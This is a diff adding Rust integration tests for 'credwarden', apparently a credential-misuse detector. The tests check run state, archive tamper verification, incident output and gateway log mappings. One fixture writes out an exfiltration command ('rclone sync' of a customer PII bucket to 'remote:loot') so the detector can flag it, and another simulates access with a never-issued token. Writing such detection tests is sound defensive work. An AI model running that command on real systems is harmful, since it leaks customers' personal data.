@@ -1,0 +1,194 @@
+//! `credwarden detect` through the real binary: state between runs (nothing read or reported twice),
+//! the evidence archive and its verification (tampering found), incidents, the file sink, forced
+//! formats, and `[[log]]` mappings from the config file.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+const LOGS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/logs");
+
+fn credwarden(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_credwarden"))
+        .args(args)
+        .env_remove("RUST_LOG")
+        .env_remove("CREDWARDEN_CONFIG")
+        .output()
+        .unwrap()
+}
+
+fn ok(out: &Output) -> String {
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout.clone()).unwrap()
+}
+
+fn p(d: &Path, name: &str) -> String {
+    d.join(name).display().to_string()
+}
+
+fn copy_logs(to: &Path) -> PathBuf {
+    let dir = to.join("logs");
+    std::fs::create_dir_all(&dir).unwrap();
+    for e in std::fs::read_dir(LOGS).unwrap() {
+        let e = e.unwrap();
+        std::fs::copy(e.path(), dir.join(e.file_name())).unwrap();
+    }
+    dir
+}
+
+#[test]
+fn a_second_run_with_the_state_reads_and_reports_nothing_new() {
+    let d = tempfile::tempdir().unwrap();
+    let logs = copy_logs(d.path());
+    let logs = logs.display().to_string();
+    let state = p(d.path(), "state.json");
+    let args = ["detect", "--format", "json", "--state", &state, &logs];
+    let first = ok(&credwarden(&args));
+    let n = first.lines().count();
+    assert!(n >= 2, "{first}");
+    assert!(Path::new(&state).exists());
+    assert!(
+        !Path::new(&format!("{state}.lock")).exists(),
+        "the lock is released"
+    );
+    let second = ok(&credwarden(&args));
+    assert_eq!(second, "", "nothing new to report");
+    // New lines appended to a log are read on the next run, and only they.
+    let shell = d.path().join("logs/shell.jsonl");
+    let mut text = std::fs::read_to_string(&shell).unwrap();
+    text.push_str("{\"time\":\"2025-07-03T01:00:00Z\",\"user\":\"mallory\",\"host\":\"bastion-1\",\"command\":\"rclone sync s3:shop-customer-pii remote:loot\"}\n");
+    std::fs::write(&shell, text).unwrap();
+    let third = ok(&credwarden(&args));
+    assert_eq!(third.lines().count(), 1, "{third}");
+    assert!(third.contains("rclone"), "{third}");
+}
+
+#[test]
+fn archive_keeps_every_event_and_verify_finds_tampering() {
+    let d = tempfile::tempdir().unwrap();
+    let arch = p(d.path(), "archive");
+    let incidents = p(d.path(), "incidents.jsonl");
+    let sink = p(d.path(), "sink.jsonl");
+    let out = credwarden(&[
+        "detect",
+        "--format",
+        "json",
+        "--archive",
+        &arch,
+        "--incidents",
+        &incidents,
+        "--sink",
+        &format!("file:{sink}"),
+        LOGS,
+    ]);
+    let findings = ok(&out);
+    // The sink got the same findings as stdout; every finding names its incident.
+    assert_eq!(
+        std::fs::read_to_string(&sink).unwrap().lines().count(),
+        findings.lines().count()
+    );
+    let inc = std::fs::read_to_string(&incidents).unwrap();
+    let first: serde_json::Value = serde_json::from_str(inc.lines().next().unwrap()).unwrap();
+    assert!(first["risk_score"].as_f64().unwrap() > 0.0);
+    for line in findings.lines() {
+        let f: serde_json::Value = serde_json::from_str(line).unwrap();
+        assert!(f["unmapped"]["facts"]["incident"].is_string(), "{line}");
+    }
+    let v = credwarden(&["archive", "verify", &arch]);
+    assert!(ok(&v).contains(": ok: "));
+    // Remove one part: verification fails with exit 1 and names it.
+    let part = walk(Path::new(&arch))
+        .into_iter()
+        .find(|f| f.to_string_lossy().ends_with(".jsonl.gz"))
+        .unwrap();
+    std::fs::remove_file(&part).unwrap();
+    let v = credwarden(&["archive", "verify", &arch]);
+    assert_eq!(v.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&v.stdout).contains("missing part"));
+}
+
+fn walk(d: &Path) -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(d).unwrap() {
+        let p = e.unwrap().path();
+        if p.is_dir() {
+            out.extend(walk(&p));
+        } else {
+            out.push(p);
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn a_mapped_gateway_log_feeds_the_token_check() {
+    let d = tempfile::tempdir().unwrap();
+    // A gateway that logs in its own shape: the token id sits in a header field.
+    std::fs::create_dir_all(d.path().join("kong")).unwrap();
+    std::fs::write(
+        d.path().join("kong/access.log"),
+        "{\"started_at\":1751418000000,\"client_ip\":\"45.133.0.9\",\"request\":{\"uri\":\"/api/v1/members/9/address-book\",\"headers\":{\"x-token-id\":\"never-issued\",\"x-kid\":\"login-rs256-2019\"}},\"response\":{\"status\":200},\"consumer\":\"9\"}\n",
+    )
+    .unwrap();
+    std::fs::write(
+        d.path().join("issuance.jsonl"),
+        "{\"time\":\"2025-07-01T00:00:00Z\",\"event\":\"token_issued\",\"sub\":\"1\",\"jti\":\"issued-1\",\"kid\":\"login-rs256-2019\",\"iat\":1751328000,\"client_id\":\"web\"}\n",
+    )
+    .unwrap();
+    let cfg = p(d.path(), "credwarden.toml");
+    std::fs::write(
+        &cfg,
+        "[[log]]\nname = \"kong\"\nkind = \"gateway\"\npath_contains = \"kong/\"\n[log.fields]\ntime = \"started_at\"\nip = \"client_ip\"\naction = \"request.uri\"\nresource = \"request.uri\"\nstatus = \"response.status\"\nprincipal = \"consumer\"\n\"claims.sub\" = \"consumer\"\n\"claims.jti\" = \"request.headers.x-token-id\"\n\"claims.kid\" = \"request.headers.x-kid\"\n\"claims.iat\" = \"\"\n",
+    )
+    .unwrap();
+    let out = credwarden(&[
+        "detect",
+        "--format",
+        "json",
+        "--config",
+        &cfg,
+        &p(d.path(), "kong"),
+        &p(d.path(), "issuance.jsonl"),
+    ]);
+    let text = ok(&out);
+    assert!(
+        text.contains("CW-D007") && text.contains("never-issued"),
+        "{text}"
+    );
+    // Without the mapping the file is not understood: counted and named, not silently dropped.
+    let out = credwarden(&["detect", "--format", "json", "-v", &p(d.path(), "kong")]);
+    assert!(ok(&out).is_empty());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("access.log") && err.contains("[[log]]"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_forced_format_and_a_bad_duration_are_checked() {
+    let out = credwarden(&[
+        "detect",
+        "--source-format",
+        "cloudtrail",
+        "--format",
+        "json",
+        &format!("{LOGS}/gateway.jsonl"),
+    ]);
+    // Gateway lines read as CloudTrail: every record is a located error, and the run still ends well.
+    assert!(out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("gateway.jsonl:1: field `eventTime`: missing"),
+        "{err}"
+    );
+    let out = credwarden(&["detect", "--reorder-window", "soon", LOGS]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("not a duration"));
+    let out = credwarden(&["detect", "--sink", "slack:ftp://x", LOGS]);
+    assert_eq!(out.status.code(), Some(2));
+}
